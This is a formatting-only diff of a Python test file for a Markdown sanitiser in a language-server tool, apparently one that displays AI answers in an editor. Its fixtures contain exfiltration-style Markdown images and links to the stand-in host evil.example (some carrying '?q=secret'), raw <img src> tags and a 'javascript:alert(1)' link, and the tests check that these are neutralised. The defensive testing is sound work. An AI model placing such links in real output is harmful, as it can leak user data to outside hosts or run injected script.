@@ -13,14 +13,15 @@ from pathlib import Path
 from urllib.parse import unquote, urlsplit
 
 import pytest
-from fault_helpers import safe_editor
-from harness import base, rng
-from hypothesis import given, settings, strategies as st
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from lsprotocol import types as lsp
 from markdown_it import MarkdownIt
 
-from kimi_lsp.lsp.features import reporting
+from fault_helpers import safe_editor
+from harness import base, rng
 from kimi_lsp.core.markdown import safe_markdown
+from kimi_lsp.lsp.features import reporting
 
 UID = os.getuid()
 
@@ -56,6 +57,7 @@ def assert_private(folder: Path) -> None:
 
 
 # -- the answers folder ------------------------------------------------------------------------------------------
+
 
 def test_answers_are_private_files_in_the_runtime_dir(dirs):
     uri = reporting._write_markdown("req1", "# hello\n")
@@ -144,8 +146,7 @@ def test_prune_removes_old_answers_only_and_follows_no_link(dirs, tmp_path):
 
 # -- safe Markdown ------------------------------------------------------------------------------------------------
 
-FENCED = ("```html\n<img src=\"https://evil.example/a\">\n![x](https://evil.example/b)\n[l](https://evil.example/c)\n"
-          "```\n")
+FENCED = '```html\n<img src="https://evil.example/a">\n![x](https://evil.example/b)\n[l](https://evil.example/c)\n```\n'
 SAFE_MARKDOWN = [
     # images: alt text only
     ("![x](https://evil.example/?q=secret)", "x"),
@@ -159,8 +160,10 @@ SAFE_MARKDOWN = [
     ("[c](javascript:alert(1))", "c"),
     ("[a [b] c](https://evil.example/)", "a [b] c"),
     ("[![x](https://evil.example/i.png)](https://evil.example/l)", "x"),
-    ("[docs][1] and [more][]\n\n[1]: https://evil.example/?q=s\n[more]: <https://evil.example/m> \"t\"\n",
-     "docs and more\n\n"),
+    (
+        '[docs][1] and [more][]\n\n[1]: https://evil.example/?q=s\n[more]: <https://evil.example/m> "t"\n',
+        "docs and more\n\n",
+    ),
     ("[Docs]\n\n[docs]: https://evil.example/\n", "Docs\n\n"),
     ("[not defined] stays", "[not defined] stays"),
     ("see <https://evil.example/?q=secret> now", "see  now"),
@@ -179,8 +182,10 @@ SAFE_MARKDOWN = [
     ("``a ` ![x](https://evil.example) ``", "``a ` ![x](https://evil.example) ``"),
     (FENCED, FENCED),
     ("~~~\n<b>![x](https://evil.example)</b>\n~~~\n", "~~~\n<b>![x](https://evil.example)</b>\n~~~\n"),
-    ("1. step\n\n   ```java\n   List<String> xs; // ![x](y)\n   ```\n",
-     "1. step\n\n   ```java\n   List<String> xs; // ![x](y)\n   ```\n"),
+    (
+        "1. step\n\n   ```java\n   List<String> xs; // ![x](y)\n   ```\n",
+        "1. step\n\n   ```java\n   List<String> xs; // ![x](y)\n   ```\n",
+    ),
     ("> ```\n> <img src=https://evil.example>\n> ```\n", "> ```\n> <img src=https://evil.example>\n> ```\n"),
     ("text\n```\n![x](https://evil.example) still streaming", "text\n```\n![x](https://evil.example) still streaming"),
     ("    <img src=https://evil.example> indented code\n", "    <img src=https://evil.example> indented code\n"),
@@ -213,8 +218,41 @@ def dangerous(text: str) -> list[str]:
     return found
 
 
-PIECES = ["![", "[", "]", "(", ")", "<", ">", "`", "```", "~~~", "\n", "\n\n", " ", "    ", "> ", "- ", "1. ", "a",
-          "https://e/", "img src=x", "!", "\\", ":", "\"", "'", "=", "/", "*", "b>", "!--", "-->", "[r]: /u\n", "&lt;"]
+PIECES = [
+    "![",
+    "[",
+    "]",
+    "(",
+    ")",
+    "<",
+    ">",
+    "`",
+    "```",
+    "~~~",
+    "\n",
+    "\n\n",
+    " ",
+    "    ",
+    "> ",
+    "- ",
+    "1. ",
+    "a",
+    "https://e/",
+    "img src=x",
+    "!",
+    "\\",
+    ":",
+    '"',
+    "'",
+    "=",
+    "/",
+    "*",
+    "b>",
+    "!--",
+    "-->",
+    "[r]: /u\n",
+    "&lt;",
+]
 
 
 @settings(max_examples=400, deadline=None)
@@ -255,7 +293,8 @@ async def test_the_answer_as_a_message_is_safe():
         def window_show_message(self, params: lsp.ShowMessageParams) -> None:
             sent.append(params)
 
-    await reporting.show_answer(Editor(), "r1", "Explain (model ![m](https://evil.example/m))",
-                                EVIL + " [l](https://evil.example/l)")
+    await reporting.show_answer(
+        Editor(), "r1", "Explain (model ![m](https://evil.example/m))", EVIL + " [l](https://evil.example/l)"
+    )
     [message] = sent
     assert "evil.example" not in message.message and "x" in message.message
